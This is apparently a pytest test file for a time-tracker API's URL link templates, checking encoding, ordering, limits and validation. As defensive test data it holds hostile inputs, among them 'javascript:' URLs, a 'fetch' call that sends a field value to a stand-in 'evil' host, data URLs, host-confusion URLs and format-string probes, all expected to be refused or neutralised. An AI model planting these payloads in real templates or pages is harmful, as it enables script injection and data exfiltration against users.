from typing import Any

import pytest
from httpx import AsyncClient

from elsewhere import another_process, left_behind
from given import Given, faults
from timetracker_api.db.session import Database
from timetracker_api.settings import Limits, Settings

PATH = "/link-templates"
ERP = "https://erp.example/"
NEEDED = ("name", "field_key", "url_template")


async def links(api: AsyncClient, client: dict[str, Any]) -> dict[str, list[str]]:
    one = (await api.get(f"/clients/{client['id']}")).json()["custom_field_links"]
    (listed,) = [
        each["custom_field_links"]
        for each in (await api.get("/clients")).json()["items"]
        if each["id"] == client["id"]
    ]
    assert one == listed
    return {key: [link["url"] for link in group] for key, group in one.items()}


async def test_a_template_can_be_created_found_changed_and_deleted(api: AsyncClient, given: Given):
    await given.a_field("debtor")
    template = await given.a_template(
        "debtor", ERP + "{value}", icon="external-link", description="Two\nlines", position=3
    )
    path = f"{PATH}/{template['id']}"
    assert (await api.get(path)).json() == template
    changed = await api.patch(path, json={"name": "Other", "is_active": False})
    assert (changed.json()["name"], changed.json()["is_active"]) == ("Other", False)
    assert (await api.get(PATH)).json()["items"] == [changed.json()]
    assert (await api.delete(path)).status_code == 204
    assert (await api.get(path)).status_code == 404


async def test_a_field_has_several_links_in_order(api: AsyncClient, given: Given):
    await given.a_field("debtor")
    await given.a_template("debtor", ERP + "z/{value}", name="Z", position=1)
    await given.a_template("debtor", ERP + "b/{value}", name="B", position=2)
    first = await given.a_template(
        "debtor", ERP + "a/%value%", name="A", position=1, icon="book", open_in_new_tab=False
    )
    client = await given.a_client(custom_fields={"debtor": "D 1/2"})
    assert client["custom_field_links"]["debtor"][0] == {
        "template_id": first["id"],
        "name": "A",
        "url": ERP + "a/D%201%2F2",
        "icon": "book",
        "open_in_new_tab": False,
    }
    assert await links(api, client) == {
        "debtor": [ERP + "a/D%201%2F2", ERP + "z/D%201%2F2", ERP + "b/D%201%2F2"]
    }


async def test_attributes_and_other_fields_of_the_record_can_stand_in_a_link(
    api: AsyncClient, given: Given
):
    await given.a_field("debtor")
    await given.a_field("branch", "integer")
    await given.a_template("client.id", ERP + "id/{value}")
    await given.a_template("client.name", ERP + "?q={value}&id={client.id}")
    await given.a_template("debtor", ERP + "{custom.branch}/{value}?name={client.name}")
    client = await given.a_client("Ä & B", custom_fields={"debtor": "D1", "branch": 0})
    other = await given.a_client("C", custom_fields={"debtor": "D1"})
    id = client["id"]
    assert await links(api, client) == {
        "client.id": [f"{ERP}id/{id}"],
        "client.name": [f"{ERP}?q=%C3%84%20%26%20B&id={id}"],
        "debtor": [ERP + "0/D1?name=%C3%84%20%26%20B"],
    }
    assert "debtor" not in await links(api, other)


@pytest.mark.parametrize(
    ("definition", "value", "expected"),
    [
        ({"kind": "integer"}, 0, ["0"]),
        ({"kind": "boolean"}, False, ["false"]),
        ({"kind": "boolean"}, True, ["true"]),
        ({"kind": "decimal"}, 0, ["0.00"]),
        ({"kind": "date"}, "2026-01-31", ["2026-01-31"]),
        ({"kind": "email"}, "a@example.com", ["a%40example.com"]),
        ({"kind": "text"}, "javascript:alert(1)", ["javascript%3Aalert%281%29"]),
        ({"kind": "text"}, "1&admin=true#x", ["1%26admin%3Dtrue%23x"]),
        ({"kind": "text"}, "{client.name}", ["%7Bclient.name%7D"]),
        ({"kind": "text"}, "..", None),
        ({"kind": "text"}, "%2e%2e", None),
        ({"kind": "text", "max_length": 2000}, "é" * 1000, None),
        ({"kind": "long_text"}, "a\nb", None),
        ({"kind": "long_text"}, "a" * 5000, None),
        (
            {
                "kind": "multi_choice",
                "choices": [{"value": "a b", "label": "A"}, {"value": "..", "label": "B"}],
            },
            ["a b", ".."],
            ["a%20b"],
        ),
        (
            {
                "kind": "multi_choice",
                "choices": [{"value": "a", "label": "A"}, {"value": "b", "label": "B"}],
            },
            ["b", "a"],
            ["b", "a"],
        ),
    ],
)
async def test_every_value_that_can_be_a_link_is_one_and_the_others_are_none(
    api: AsyncClient,
    given: Given,
    definition: dict[str, Any],
    value: object,
    expected: list[str] | None,
):
    await given.a_field("field", **definition)
    await given.a_template("field", ERP + "x/{value}")
    client = await given.a_client(custom_fields={"field": value})
    wanted = {"field": [ERP + "x/" + each for each in expected]} if expected else {}
    assert await links(api, client) == wanted


async def test_what_an_older_system_left_behind_makes_no_link_and_no_error(
    api: AsyncClient, given: Given, database: Database
):
    await given.a_field("debtor")
    await given.a_field("site", "url")
    await given.a_template("debtor", ERP + "{value}/{custom.site}")
    await given.a_template("debtor", ERP + "{value}")
    client = await given.a_client()
    hostile: list[Any] = ["javascript:alert(1)", 5, ["https://a.example/"], {"a": 1}, None, "x y"]
    for value in hostile:
        await left_behind(database, client, debtor={"a": [1]}, site=value)
        assert await links(api, client) == {}
    await left_behind(database, client, debtor=[1, {"a": 1}, None, "b"], site="https://a.example/")
    assert await links(api, client) == {
        "site": ["https://a.example/"],
        "debtor": [
            ERP + "1/https%3A%2F%2Fa.example%2F",
            ERP + "b/https%3A%2F%2Fa.example%2F",
            ERP + "1",
            ERP + "b",
        ],
    }


async def test_a_value_that_was_changed_while_its_field_was_inactive_is_no_unsafe_link(
    api: AsyncClient, given: Given
):
    field = await given.a_field("site", "url")
    client = await given.a_client(custom_fields={"site": "https://a.example/"})
    definition = f"/custom-field-definitions/{field['id']}"
    await api.patch(definition, json={"is_active": False})
    changed = await api.patch(
        f"/clients/{client['id']}", json={"custom_fields": {"site": "javascript:alert(1)"}}
    )
    assert changed.is_success
    await api.patch(definition, json={"is_active": True})
    assert await links(api, client) == {}


async def test_a_url_is_its_own_link_before_those_of_templates(given: Given):
    await given.a_field("site", "url", label="Their site")
    await given.a_template("site", ERP + "?to={value}")
    client = await given.a_client(custom_fields={"site": "https://a.example/b?c=d"})
    own, made = client["custom_field_links"]["site"]
    assert own == {
        "template_id": None,
        "name": "Their site",
        "url": "https://a.example/b?c=d",
        "icon": None,
        "open_in_new_tab": True,
    }
    assert made["url"] == ERP + "?to=https%3A%2F%2Fa.example%2Fb%3Fc%3Dd"


async def test_links_follow_every_change_at_once(api: AsyncClient, given: Given):
    field = await given.a_field("debtor")
    template = await given.a_template("debtor", ERP + "{value}")
    client = await given.a_client(custom_fields={"debtor": "1"})
    definition, path = f"/custom-field-definitions/{field['id']}", f"{PATH}/{template['id']}"
    made = {"debtor": [ERP + "1"]}
    assert await links(api, client) == made
    await api.patch(definition, json={"label": "Renamed"})
    assert await links(api, client) == made
    await api.patch(definition, json={"is_active": False})
    assert await links(api, client) == {}
    await api.patch(definition, json={"is_active": True})
    await api.patch(path, json={"is_active": False})
    assert await links(api, client) == {}
    await api.patch(path, json={"is_active": True, "url_template": ERP + "v2/{value}"})
    assert await links(api, client) == {"debtor": [ERP + "v2/1"]}
    await api.delete(path)
    assert await links(api, client) == {}


async def test_a_field_has_one_template_of_a_name(api: AsyncClient, given: Given):
    await given.a_field("debtor")
    first = await given.a_template("debtor", ERP + "{value}")
    elsewhere = await given.a_template("client.id", ERP + "{value}")
    second = await given.a_template("debtor", ERP + "{value}")
    for refused in (
        await api.post(PATH, json={name: first[name] for name in NEEDED}),
        await api.patch(f"{PATH}/{second['id']}", json={"name": first["name"]}),
        await api.patch(f"{PATH}/{elsewhere['id']}", json={"field_key": "debtor"}),
    ):
        assert (refused.status_code, faults(refused)) == (409, {("/name", "not_unique")})
    assert (await api.patch(f"{PATH}/{first['id']}", json={"name": "Other"})).is_success
    assert (await api.patch(f"{PATH}/{second['id']}", json={"name": "Open"})).is_success


async def test_a_template_outlives_its_field(api: AsyncClient, given: Given):
    field = await given.a_field("debtor")
    template = await given.a_template("debtor", ERP + "{value}")
    client = await given.a_client()
    assert (await api.delete(f"/custom-field-definitions/{field['id']}")).status_code == 204
    assert await links(api, client) == {}
    path = f"{PATH}/{template['id']}"
    assert (await api.patch(path, json={"name": "Old", "is_active": False})).is_success
    moved = await api.patch(path, json={"url_template": ERP + "x/{value}"})
    assert faults(moved) == {("/field_key", "undefined_field")}
    assert (await api.patch(path, json={"field_key": "client.id"})).is_success


async def test_a_template_whose_scheme_is_no_longer_allowed_makes_no_links(
    api: AsyncClient, given: Given, settings: Settings
):
    await given.a_field("number", "phone")
    await given.a_field("site", "url")
    await given.a_template("number", "tel:{value}")
    template = await given.a_template("site", "http://erp.example/{value}")
    values = {"number": "+32 2 555", "site": "http://a.example/"}
    client = await given.a_client(custom_fields=values)
    assert (await links(api, client))["number"] == ["tel:+322555"]
    async with another_process(settings, api, link_schemes=["https"]) as narrow:
        assert await links(narrow, client) == {}
        path = f"{PATH}/{template['id']}"
        assert (await narrow.patch(path, json={"name": "Old"})).is_success
        refused = await narrow.patch(path, json={"url_template": "http://b.example/{value}"})
        assert faults(refused) == {("/url_template", "scheme")}


@pytest.mark.parametrize(
    ("url", "code", "position"),
    [
        ("{value}", "scheme", 0),
        ("javascript:fetch('//evil/'+'{value}')", "scheme", 0),
        ("data:text/html,{value}", "scheme", 0),
        ("//erp.example/{value}", "scheme", 0),
        ("java\tscript:{value}", "character", 4),
        (ERP + "\x00{value}", "character", 20),
        (ERP + "\u202e{value}", "character", 20),
        ("https:/\\evil.example/{value}", "character", 7),
        ("https:///evil.example/{value}", "host", 8),
        ("https://{value}.example/", "authority", 8),
        ("https://erp.example@evil.example/{value}", "userinfo", 19),
        (ERP, "no_placeholder", 20),
        (ERP + "{value}/{value.__class__.__mro__}", "unknown_placeholder", 28),
        (ERP + "{value:>99999999}", "unknown_placeholder", 20),
        (ERP + "{0}", "unknown_placeholder", 20),
        (ERP + "{{value}}", "brace", 20),
        (ERP + "%value", "percent", 20),
        (ERP + "../{value}", "dot_segment", 20),
        ("mailto:?bcc={value}", "header", 8),
        (ERP + "{custom.nope}", "unknown_placeholder", 20),
        (ERP + "{value}/{project.code}", "unknown_placeholder", 28),
        (ERP + "{client.hourly_rate}", "unknown_placeholder", 20),
    ],
    ids=ascii,
)
async def test_a_hostile_template_is_refused_with_the_position_of_the_fault(
    api: AsyncClient, given: Given, url: str, code: str, position: int
):
    template = await given.a_template("client.id", ERP + "{value}")
    body = {"name": "Open", "field_key": "client.id", "url_template": url}
    for refused in (
        await api.post(PATH, json=body),
        await api.patch(f"{PATH}/{template['id']}", json={"url_template": url}),
    ):
        assert faults(refused) == {("/url_template", code)}
        (fault,) = refused.json()["errors"]
        assert fault["message"].endswith(f"(At position {position}.)")


@pytest.mark.parametrize("name", ["nope", "invoice.number", "project.code"])
async def test_an_unknown_placeholder_is_answered_with_those_of_the_records(
    api: AsyncClient, name: str
):
    url = ERP + f"{{{name}}}"
    body = {"name": "Open", "field_key": "client.id", "url_template": url}
    refused = await api.post(PATH, json=body)
    assert faults(refused) == {("/url_template", "unknown_placeholder")}
    assert refused.json()["errors"][0]["message"].endswith(
        " There are value, client.id, client.name and custom.<key>, in braces. (At position 20.)"
    )


@pytest.mark.parametrize(
    "field_key", ["nope", "value", "project.notes", "client.notes", "a'b", "."]
)
async def test_a_field_that_does_not_exist_has_no_links(api: AsyncClient, field_key: str):
    refused = await api.post(
        PATH, json={"name": "Open", "field_key": field_key, "url_template": ERP + "{custom.x}"}
    )
    assert faults(refused) == {
        ("/field_key", "undefined_field"),
        ("/url_template", "unknown_placeholder"),
    }


@pytest.mark.parametrize(
    ("field_key", "shown_on"),
    [
        ("po", ["project", "task"]),
        ("project.code", ["project"]),
        ("client.id", ["client"]),
        ("time_entry.id", ["time_entry"]),
        ("user.id", ["time_entry"]),
    ],
)
async def test_a_template_is_shown_where_its_field_is_unless_it_says_so(
    api: AsyncClient, given: Given, field_key: str, shown_on: list[str]
):
    await given.a_field("po", applies_to=["project", "task"])
    await given.a_field("debtor")
    template = await given.a_template(field_key, ERP + "{value}")
    assert template["applies_to"] == shown_on
    other = await given.a_template("debtor", ERP + "{value}")
    change = {"field_key": field_key, "applies_to": None, "name": "Other"}
    moved = await api.patch(f"{PATH}/{other['id']}", json=change)
    assert moved.json()["applies_to"] == shown_on


async def test_a_template_of_a_field_of_projects_makes_their_links(given: Given):
    await given.a_field("po", applies_to=["project"])
    await given.a_template("po", ERP + "{value}")
    project = await given.a_project(custom_fields={"po": "4711"})
    (link,) = project["custom_field_links"]["po"]
    assert link["url"] == ERP + "4711"


async def test_a_template_is_not_shown_on_records_without_its_field(api: AsyncClient, given: Given):
    await given.a_field("po", applies_to=["project"])
    body = {"name": "Open", "field_key": "po", "url_template": ERP + "{value}"}
    both = ["client", "project"]
    wrong = {("/applies_to", "undefined_field")}
    template = await given.a_template("po", ERP + "{value}")
    coded = await given.a_template("project.code", ERP + "{value}", applies_to=["task"])
    debtor = await given.a_template("client.id", ERP + "{value}")
    for path in (PATH, f"{PATH}/preview"):
        refused = await api.post(path, json={**body, "applies_to": both})
        assert faults(refused) == wrong
        assert refused.json()["errors"][0]["message"] == (
            "There is no po on client records; it is on project records."
        )
        native = {**body, "field_key": "project.code", "applies_to": both}
        assert faults(await api.post(path, json=native)) == wrong
    for each, change in (
        (template, {"applies_to": both}),
        (coded, {"applies_to": ["client"]}),
        (debtor, {"field_key": "po"}),
    ):
        assert faults(await api.patch(f"{PATH}/{each['id']}", json=change)) == wrong


async def test_a_template_whose_field_no_longer_applies_can_still_be_put_away(
    api: AsyncClient, given: Given
):
    field = await given.a_field("po", applies_to=["client", "project"])
    template = await given.a_template("po", ERP + "{value}")
    narrowed = {"applies_to": ["project"]}
    assert (await api.patch(f"/custom-field-definitions/{field['id']}", json=narrowed)).is_success
    path = f"{PATH}/{template['id']}"
    assert (await api.patch(path, json={"name": "Old", "is_active": False})).is_success
    assert (await api.patch(path, json=narrowed)).json()["applies_to"] == ["project"]


@pytest.mark.parametrize(
    ("attributes", "fault"),
    [
        ({"url_template": ERP + "{value}" + "a" * 2000}, ("/url_template", "max_length")),
        ({"url_template": ""}, ("/url_template", "min_length")),
        ({"icon": "<svg>"}, ("/icon", "pattern")),
        ({"name": "a\u202eb"}, ("/name", "control_characters")),
        ({"name": None}, ("/name", "type")),
        ({"applies_to": ["planet"]}, ("/applies_to/0", "not_a_choice")),
        ({"open_in_new_tab": 1}, ("/open_in_new_tab", "type")),
        ({"onclick": "x"}, ("/onclick", "unknown_field")),
    ],
)
async def test_a_template_that_makes_no_sense_is_refused(
    api: AsyncClient, attributes: dict[str, Any], fault: tuple[str, str]
):
    body = {"name": "Open", "field_key": "client.id", "url_template": ERP + "{value}"}
    assert faults(await api.post(PATH, json={**body, **attributes})) == {fault}


async def test_a_field_has_so_many_templates_and_no_more(
    api: AsyncClient, given: Given, settings: Settings
):
    templates = [await given.a_template("client.id", ERP + "{value}") for _ in range(3)]
    elsewhere = await given.a_template("client.name", ERP + "{value}")
    async with another_process(settings, api, limits=Limits(templates=2)) as small:
        body = {"name": "More", "field_key": "client.id", "url_template": ERP + "{value}"}
        full = await small.post(PATH, json=body)
        assert (full.status_code, full.json()["code"]) == (409, "too_many_templates")
        assert (await small.post(PATH, json={**body, "field_key": "client.name"})).is_success
        moved = await small.patch(
            f"{PATH}/{elsewhere['id']}", json={"field_key": "client.id", "name": "Moved"}
        )
        assert moved.status_code == 409
        # Three are too many already: they can be changed all the same.
        kept = await small.patch(f"{PATH}/{templates[0]['id']}", json={"name": "Other"})
        assert kept.json()["name"] == "Other"


async def test_templates_are_listed_by_position_and_can_be_filtered(api: AsyncClient, given: Given):
    await given.a_field("debtor", applies_to=["client", "task"])
    await given.a_template("debtor", ERP + "{value}", name="B", position=1, applies_to=["client"])
    await given.a_template("client.id", ERP + "{value}", name="A", position=2, is_active=False)
    await given.a_template("debtor", ERP + "{value}", name="C", position=0, applies_to=["task"])

    async def names(query: str = "") -> list[str]:
        return [each["name"] for each in (await api.get(f"{PATH}?{query}")).json()["items"]]

    assert await names() == ["C", "B", "A"]
    assert await names("sort=-name") == ["C", "B", "A"]
    assert await names("field_key=debtor") == ["C", "B"]
    assert await names("is_active=false") == ["A"]
    assert await names("applies_to=client") == ["B", "A"]
